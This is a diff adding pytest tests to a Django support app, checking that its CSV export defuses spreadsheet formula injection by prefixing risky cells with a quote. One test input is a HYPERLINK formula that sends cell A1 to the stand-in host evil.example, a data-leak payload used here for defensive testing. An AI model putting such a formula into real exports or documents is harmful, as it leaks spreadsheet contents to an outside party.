@@ -7,6 +7,7 @@ from datetime import timedelta
 
 import pytest
 from django.utils import timezone
+from django_guid import clear_guid, set_guid
 
 from audit.models import AuditEvent
 from audit.selectors import cursor_encode
@@ -202,3 +203,44 @@ def test_the_order_page_in_admin_links_to_the_timeline(client, story):
     assert f'href="/support/orders/{order.pk}/"'.encode() in page.content
     index = client.get("/admin/")
     assert b'href="/ops/zones/"' in index.content and b'href="/support/"' in index.content
+
+
+FORMULA_CODE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def exported(support, **params):
+    response = support.get("/support/export.csv", params)
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+
+
+@pytest.mark.parametrize("code", [FORMULA_CODE, "+SUM(1,2)", "-2+3", "@SUM(A1)"])
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(support, code):
+    # Given an order whose code (sent by a shop) starts like a formula, received under a
+    # correlation id (chosen by the caller) that does too
+    ZoneFactory()
+    set_guid("=1+1")
+    try:
+        order = receive_order(ShopChannelFactory(), code=code)
+    finally:
+        clear_guid()
+    # When support exports its events
+    lines = exported(support, order=order.pk)
+    # Then every cell is text to a spreadsheet: the value keeps its characters behind a quote
+    assert lines and all(line["order_code"] == "'" + code for line in lines)
+    assert any(line["correlation_id"] == "'=1+1" for line in lines)
+    for line in lines:
+        assert not any(value.startswith(FORMULA_STARTS) for value in line.values()), line
+
+
+@pytest.mark.parametrize("start", ["\t", "\r"])
+def test_export_neutralises_cells_starting_with_tab_or_carriage_return(support, start):
+    from django.db import transaction
+
+    from audit.actors import Actor
+    from audit.services import audit_record
+
+    with transaction.atomic():
+        event = audit_record("order.received", actor=Actor.system("test"), subject_type="order", subject_id=1, order_id=1, order_code=start + "=1+1")
+    lines = exported(support, order=event.order_id)
+    assert [line["order_code"] for line in lines] == ["'" + start + "=1+1"]
